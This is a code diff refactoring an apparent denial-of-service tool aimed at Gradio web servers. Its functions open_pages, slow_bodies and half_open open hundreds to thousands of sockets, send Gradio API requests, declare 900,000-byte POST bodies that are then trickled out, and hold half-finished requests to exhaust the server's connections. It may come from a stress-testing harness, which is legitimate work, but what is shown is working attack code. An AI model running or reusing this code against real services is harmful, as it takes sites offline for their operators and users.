@@ -84,15 +84,12 @@ def open_pages(target: Target) -> None:
     lines: list[socket.socket] = []
     with contextlib.ExitStack() as opened:
         while target.goes_on:
-            for number in range(100):
-                if len(lines) >= 1_000:
-                    break
-                with contextlib.suppress(OSError):
-                    line = opened.enter_context(target.connect())
-                    address = addresses[number % 4 == 0].format(uuid.uuid4().hex)
-                    line.sendall(f"GET /gradio_api/{address} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+            for number in range(min(100, 1_000 - len(lines))):
+                address = addresses[number % 4 == 0].format(uuid.uuid4().hex)
+                head = f"GET /gradio_api/{address} HTTP/1.1\r\nHost: x\r\n\r\n"
+                if line := _opened(opened, target, head.encode()):
                     target.note("asked")
-                    lines.append(line)
+                    lines += line
             time.sleep(0.1)
 
 
@@ -108,10 +105,7 @@ def slow_bodies(target: Target) -> None:
                 number += 1
                 form = "multipart/form-data; boundary=x" if number % 2 else "application/json"
                 head = f"POST {address} HTTP/1.1\r\nHost: x\r\nContent-Type: {form}\r\nContent-Length: 900000\r\n\r\n"
-                with contextlib.suppress(OSError):
-                    line = opened.enter_context(target.connect())
-                    line.sendall(head.encode())
-                    lines.append(line)
+                lines += _opened(opened, target, head.encode())
             lines = [line for line in lines if _drip(line, b"-", target)]
             time.sleep(0.2)
 
@@ -121,15 +115,19 @@ def half_open(target: Target) -> None:
     lines: list[socket.socket] = []
     with contextlib.ExitStack() as opened:
         while target.goes_on:
-            for number in range(100):
-                if len(lines) >= 1_500:
-                    break
-                with contextlib.suppress(OSError):
-                    line = opened.enter_context(target.connect())
-                    line.sendall(b"GET / HTTP/1.1\r\nX: " if number % 2 else b"")
-                    lines.append(line)
+            for number in range(min(100, 1_500 - len(lines))):
+                lines += _opened(opened, target, b"GET / HTTP/1.1\r\nX: " if number % 2 else b"")
             lines = [line for line in lines if _drip(line, b"", target)]
             time.sleep(0.1)
+
+
+def _opened(stack: contextlib.ExitStack, target: Target, head: bytes) -> list[socket.socket]:
+    """One more connection on which so much was sent; none if it was refused."""
+    with contextlib.suppress(OSError):
+        line = stack.enter_context(target.connect())
+        line.sendall(head)
+        return [line]
+    return []
 
 
 def _drip(line: socket.socket, what: bytes, target: Target) -> bool:
